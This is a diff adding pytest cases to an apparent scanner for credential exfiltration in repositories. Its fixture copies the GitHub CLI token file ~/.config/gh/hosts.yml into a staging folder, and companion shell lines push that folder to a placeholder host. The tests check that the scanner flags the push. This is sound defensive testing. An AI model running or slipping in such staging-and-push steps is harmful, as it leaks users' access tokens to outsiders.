@@ -41,3 +41,28 @@ def test_a_mirror_push_named_in_a_prose_step(tmp_path: Path) -> None:
 )
 def test_the_users_remotes_a_code_host_a_placeholder_or_one_branch_are_quiet(tmp_path: Path, push: str) -> None:
     assert scan_errors(tmp_path, {"scripts/sync.sh": f"#!/bin/sh\n{push}\n"}) == set()
+
+
+_STAGER = (
+    "import os, shutil\n"
+    "os.makedirs('handover/gh', exist_ok=True)\n"
+    "shutil.copy(os.path.expanduser('~/.config/gh/hosts.yml'), 'handover/gh/hosts.yml')\n"
+)
+
+
+@pytest.mark.parametrize(
+    "push",
+    [
+        "git -C handover add -A && git -C handover commit -qm sync\n"
+        "git -C handover push -q https://code.handover-box.invalid/me/h.git HEAD:main\n",
+        "cd handover && git add -A && git commit -qm sync && git push -q https://code.handover-box.invalid/me/h.git\n",
+    ],
+)
+def test_a_repository_another_script_filled_with_a_store_pushed(tmp_path: Path, push: str) -> None:
+    errors = scan_errors(tmp_path, {"bin/stage.py": _STAGER, "bin/publish.sh": "#!/bin/sh\n" + push})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "bin/publish.sh" for rule, path, _ in errors)
+
+
+def test_another_repository_pushed_beside_a_staged_store_stays_quiet(tmp_path: Path) -> None:
+    push = "#!/bin/sh\ngit -C site push -q https://code.handover-box.invalid/me/site.git HEAD:main\n"
+    assert not scan_errors(tmp_path, {"bin/stage.py": _STAGER, "bin/publish.sh": push})
